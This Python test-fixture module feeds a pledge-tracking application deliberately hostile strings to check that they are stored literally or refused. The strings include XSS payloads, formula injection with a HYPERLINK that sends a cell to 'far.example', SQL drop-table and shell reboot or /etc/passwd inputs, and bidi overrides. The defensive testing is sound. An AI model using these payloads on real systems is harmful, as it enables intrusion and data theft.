"""Texts that want to be more than text, and a store that holds them wherever text can stand."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import replace
from itertools import cycle

import make

from tracker.ledger import Draft
from tracker.models import Coding, Dataset, StatusEvent, Thing, Withdrawal
from tracker.terms import Entity
from tracker.tracker import Tracker

FAR = "far.example"
"""A machine that nobody here may be led to or asked, but for the addresses of sources."""

SHOWN = {
    # HTML
    "script": "<script>window.hit=1</script>",
    "upper": "<SCRIPT SRC=//far.example/a.js></SCRIPT>",
    "img": "<img src=x onerror=window.hit=1>",
    "img-quoted": "\"><img src='x' onerror='window.hit=1'>",
    "svg": "<svg onload=window.hit=1><circle r=9></svg>",
    "svg-script": "<svg><script>window.hit=1</script></svg>",
    "math": "<math><mi href=javascript:window.hit=1>x</mi></math>",
    "iframe": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "details": "<details open ontoggle=window.hit=1>",
    "style": "<style>*{display:none}</style>",
    "style-attribute": '<p style="position:fixed;inset:0;background:red">over</p>',
    "base": "<base href=//far.example/>",
    "meta": '<meta http-equiv=refresh content="0;url=//far.example/">',
    "form": "<form action=//far.example/><input name=password></form>",
    "link": "<a href=//far.example/>here</a>",
    "comment": "<!-- and then",
    "cdata": "<![CDATA[ and then",
    "unclosed": "<div><b><textarea><title>",
    "closing": "</div></p></td></table></body>",
    "entities": "&lt;b&gt; &amp;amp; &#60;img&#62; &#x202e; &nbsp;",
    "entity-script": "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "attribute": '" onmouseover="window.hit=1" x="',
    "attribute-2": "' autofocus onfocus='window.hit=1' x='",
    # Markdown and what Streamlit adds to it
    "md-link": "[here](http://far.example/)",
    "md-script-link": "[here](javascript:window.hit=1)",
    "md-image": "![seen](http://far.example/a.png)",
    "md-reference": "[here][1] [1]: http://far.example/",
    "md-autolink": "<http://far.example/> <jo@far.example>",
    "md-bare": "http://far.example/a www.far.example jo@far.example ftp://far.example",
    "md-heading": "# Far too big",
    "md-underline": "=====",
    "md-rule": "* * *",
    "md-bullet": "- one",
    "md-plus": "+ one",
    "md-number": "1. one",
    "md-number-2": "2025) one",
    "md-task": "- [x] done",
    "md-quote": "> said",
    "md-table": "| a | b | |---|---|",
    "md-fence": "```python",
    "md-tilde": "~~~ gone ~~~ and ~~gone~~",
    "md-code": "`code` ``code``",
    "md-emphasis": "*a* _b_ **c** __d__ ***e***",
    "md-footnote": "said[^1] [^1]: there",
    "md-escapes": r"\* \[ \\ \$ \<b> C:\new\table \_",
    "md-typography": '(c) (r) (tm) -- --- ... "quoted" -> <- <-> >=',
    "st-colour": ":red[late] :blue-background[x] :rainbow[x] :violet-badge[x]",
    "st-icon": ":material/delete: :streamlit: :small[x] :shortcode[x]",
    "st-emoji": ":smile: :+1: :heart:",
    "st-brackets": "a] b[c ]( ) [[d]] ][",
    "latex": "$x^2$ and $$\\frac{1}{2}$$ for $5 or $10",
    "latex-macro": r"\( x \) \[ y \] \begin{align} \href{javascript:window.hit=1}{x}",
    # Addresses
    "js": "javascript:window.hit=1",
    "js-odd": "JaVaScRiPt&colon;window.hit=1 java script:window.hit=1",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript": "vbscript:msgbox(1)",
    # Templates and charts
    "template": "{{7*7}} {% for x in y %} ${7*7} <%= 7*7 %> #{7*7} {0} {n} {title}",
    "percent": "%s %d %(a)s %n 100%",
    "vega": "datum.title = window.hit=1; expr: \"warn('x')\" signal(hit)",
    "css": "url(//far.example/) expression(alert(1)) ; } body { display: none }",
    "numeric": "1e309",
    "null": "null",
    "undefined": "undefined",
    "nan": "NaN",
    "proto": "__proto__",
    "constructor": "constructor",
    "true": "true",
    "date": "2026-02-30",
    # What spreadsheets compute
    "formula": '=HYPERLINK("http://far.example/?"&A1,"here")',
    "formula-cmd": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-wide": "＝1+1",
    "formula-wide-at": "＠SUM(1)",
    "formula-parts": "a;=1+1,=1+1|=1+1",
    "formula-quoted": "'=1+1",
    "formula-quotes": '",=1+1,"',
    # SQL, shells, terminals
    "sql": "'; DROP TABLE ledger; -- \" /* */ $$ ? $1 :a",
    "shell": "$(reboot) `reboot` ; reboot | reboot & ../../etc/passwd",
    "rich": "[bold red]x[/] [link=http://far.example/]here[/link] [/]",
    # Letters
    "long": "w" * 500,
    "wide": "\ufdfd" * 40,
    "isolated": "\u2067\u05d0\u05d1 \u05d2\u2069 (1)",
    "rtl": "\u05e9\u05dc\u05d5\u05dd abc \u0645\u0631\u062d\u0628\u0627 1, 2",
    "mark": "\u200fabc\u200e \u061c",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "marks": "a" + "\u0317\u0318\u0319\u031a" * 2 + " e\u20dd",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e8\U0001f1e6 \u2764\ufe0f",
    "planes": "\U00020000 \U0001d54f \U0010fffd",
    "hangul": "\uad6d\ubc29\ubd80 \u1100\u1161",
    "quotes": "\u201c \u2018 ' \" \u00ab \uff07 \uff02 \uff1c script \uff1e",
}
"""Lines that are kept and shown letter for letter."""

LATER = {
    "lines": "one\n\n\ntwo\n# three\n    four\n\tfive\n---\n```\n<b>six</b>\n",
    "indented": "    window.hit = 1",
    "reference": '[1]: http://far.example/ "here"',
    "table": "a | b\n--- | ---\n1 | 2",
    "setext": "Far too big\n===",
    "html-block": "<div>\n\n# inside\n\n</div>\n<script>\nwindow.hit=1\n</script>",
    "word": "w" * 4000,
    "many-lines": "\n".join("line" for _ in range(500)),
    "crlf": "one\r\ntwo\rthree\u2028four\u2029five",
}
"""Texts of several lines, or longer than a line may be, that are kept as well."""

REFUSED = {
    "nul": ("a\x00b", "control_character"),
    "escape": ("\x1b]0;hit\x07", "control_character"),
    "clear": ("a\x1b[2J", "control_character"),
    "c1": ("a\x9b2J", "control_character"),
    "backspace": ("a\b\b", "control_character"),
    "delete": ("a\x7f", "control_character"),
    "form-feed": ("a\fb", "control_character"),
    "noncharacter": ("a\uffff", "control_character"),
    "noncharacter-far": ("a\U0010fffe", "control_character"),
    "annotation": ("a\ufff9b\ufffac\ufffb", "control_character"),
    "tags": ("a" + "".join(chr(0xE0000 + ord(c)) for c in "hit"), "control_character"),
    "override": ("invoice\u202efdp.exe", "direction"),
    "override-closed": ("a\u202eb\u202cc", "direction"),
    "embedding": ("a\u202bb", "direction"),
    "isolate": ("a\u2067b", "direction"),
    "crossed": ("a\u2067\u202bb\u2069\u202c", "direction"),
    "closing": ("a\u2069b", "direction"),
    "lone-high": ("a\ud800b", "string_unicode"),
    "lone-low": ("a\udc00b", "string_unicode"),
    "empty": ("", "string_too_short"),
    "spaces": (" \u00a0\u3000 ", "string_too_short"),
    "nothing": ("\u200b\ufeff\u2060", "invisible"),
    "fillers": ("\u3164\u115f\u2800", "invisible"),
    "marks": ("a" + "\u0301" * 60, "too_many_marks"),
    "marks-apart": ("a" + "\u0317\u200d" * 9, "too_many_marks"),
    "megabyte": ("x" * 1_000_000, "string_too_long"),
    "ten-thousand-lines": ("a" + "\n" * 9_998 + "b", None),
}
"""Texts that no field takes, and the fault that is named; None where it depends on the field."""


def _in_turn(texts: Sequence[str]) -> Callable[[str], str]:
    """Gives one of the texts after the other in place of a harmless one, if there are any."""
    turns = cycle(texts)
    return lambda own: next(turns, own)


def things(texts: Sequence[str] = ()) -> list[Thing]:
    """One of everything with every field filled; the texts, if any, take turns in what is free text."""
    text = _in_turn(texts)
    every = list(texts)[:100] or ["An open matter."]
    party = text("Arvania")
    horizon = {"corpus": text("Papers"), "dense_until": "2025-04-30", "remark": text("All of them.")}
    return [
        Dataset.parse(
            {
                "id": "set",
                "subject": text("Pledges"),
                "as_of": "2025-05-01",
                "compiled_from": text("Papers."),
                "text_limits": text("As printed."),
                "evidence_horizon": [horizon],
                "date_rule": text("As printed."),
                "milestone_rule": text("As printed."),
                "because": text("It is so."),
            }
        ),
        make.source(
            title=text("A document"),
            publisher=text("Gazette"),
            published="2024-03-04",
            url=f'https://{FAR}/a?b=(c)[d]<e>%22\'&f="g"#`h`|*i*',
            reliability_reason=text("It is the text."),
            note=text("It is long."),
            origin=text("Agency"),
            speaks_for=[text("Arvania"), text("Belmora")],
            because=text("It is so."),
        ),
        make.agreement(
            title=text("A pact"),
            parties=[text("Arvania"), text("Belmora")],
            kind=text("treaty"),
            source_ids=["gazette"],
            summary=text("They agreed."),
            because=text("It is so."),
        ),
        make.commitment(
            title=text("A treaty"),
            pledge=text("They will sign."),
            pillar=text("Law"),
            parties=[{"name": party, "bodies": every}],
            parties_basis=text("The text"),
            headline=True,
            due="2030-05",
            cadence="P1Y",
            cadence_note=text("Each year"),
            lapses_after="P2Y",
            fulfilment_test=text("It is in force."),
            related_source_ids=["gazette"],
            milestones=[
                {
                    "name": name,
                    "expected": "2026",
                    "expected_basis": "stated",
                    "reached": "2025-01",
                    "note": text("It was late."),
                }
                for name in every
            ],
            open_questions=every,
            conflicts=every,
            assessment={
                "stage": "signed",
                "since": "2025",
                "confidence": "high",
                "note": text("It is signed."),
            },
            because=text("It is so."),
        ),
        make.check(
            places=every,
            languages=["en"],
            terms=every,
            note=text("Nothing."),
            because=text("It is so."),
        ),
        make.dispute(
            claim=text("When was it?"),
            sides=[
                {"position": text("Then"), "source_ids": ["gazette"], "holds": True},
                {"position": text("Later"), "source_ids": ["gazette"], "holds": False},
            ],
            holds=text("Then"),
            why=text("It says so."),
            settled=True,
            because=text("It is so."),
        ),
        Coding.parse(
            {
                "id": "judged",
                "commitment_id": "treaty",
                "event_version": 2,
                "stage": "signed",
                "note": text("As printed."),
                "because": text("It is so."),
            }
        ),
    ]


def event(texts: Sequence[str] = (), **fields: object) -> StatusEvent:
    """An event with every field filled, in the same way."""
    text = _in_turn(texts)
    item = {
        "source_id": "gazette",
        "credibility": 1,
        "locator": text("Page 1"),
        "quote": text("It was signed."),
        "prefix": text("On this day: "),
        "suffix": text(" And so on."),
        "archive_sha256": "0a" * 32,
    }
    told = {"note": text("It happened."), "evidence": [item], "party": text("Arvania")}
    return make.event("signed", "2024-05-01", **told | fields)


def fill(tracker: Tracker) -> None:
    """Enter these texts wherever text can stand, and correct, withdraw and propose some of it."""
    lines = list(SHOWN.values())
    both = [*lines, *LATER.values()]
    dataset, source, agreement, commitment, check, dispute, coding = things(lines)
    told = make.event("pledged", note=lines[1])
    numbered = list(enumerate(lines))
    drafts = [Draft.add(thing) for thing in (dataset, source, agreement, commitment)]
    drafts.append(Draft.event(event(lines, party=commitment.parties[0].name)))
    drafts += [
        Draft.add(
            make.source(f"s-{n}", title=line, publisher=line, origin=line, reliability_reason=line, note=line)
        )
        for n, line in numbered
    ]
    drafts += [
        Draft.add(
            make.commitment(
                f"c-{n}",
                title=line,
                pledge=both[n % len(both)],
                pillar=line,
                parties=[{"name": line, "bodies": [line]}, {"name": f"{line[:400]} too", "bodies": []}],
                due="2026-12",
                headline=n % 8 == 0,
            )
        )
        for n, line in numbered
    ]
    drafts += [
        Draft.event(make.event("pledged", "2024-03-04", f"s-{n}", commitment_id=f"c-{n}", note=line))
        for n, line in numbered
    ]
    # Every text on one page, each in the name of another hand.
    drafts += [
        replace(
            Draft.event(make.event("pledged", "2024-03-04", f"s-{n % len(lines)}", note=text)),
            actor=lines[n % len(lines)],
        )
        for n, text in enumerate(both)
    ]
    drafts += [Draft.add(check), Draft.add(dispute)]
    drafts += [
        Draft.add(make.dispute(f"d-{n}", f"c-{n}", claim=line, holds=line, why=line, settled=n % 2 == 0))
        for n, line in numbered[:40]
    ]
    tracker.append(drafts, by=lines[0])
    # What was taken back says why, and a proposal says what it would do.
    gone = Withdrawal(reason=lines[3])
    tracker.append(
        [
            Draft.add(coding),
            Draft.withdraw(Entity.SOURCE, "s-1", gone),
            Draft.withdraw(Entity.CHECK, check.id, gone),
            Draft.withdraw(Entity.DISPUTE, "d-1", gone),
            Draft.withdraw(Entity.COMMITMENT, "c-2", Withdrawal(version=2, reason=lines[3])),
            Draft.revise(make.source("s-3", title=lines[4], because=lines[5])),
            Draft.revise(commitment.model_copy(update={"pledge": lines[6], "because": lines[7]})),
        ],
        by=lines[8],
    )
    tracker.propose([Draft.event(told.model_copy(update={"note": lines[9]}))], by=lines[10])
    tracker.propose(
        [Draft.revise(commitment.model_copy(update={"pledge": lines[11], "because": lines[12]}))],
        by=lines[13],
    )
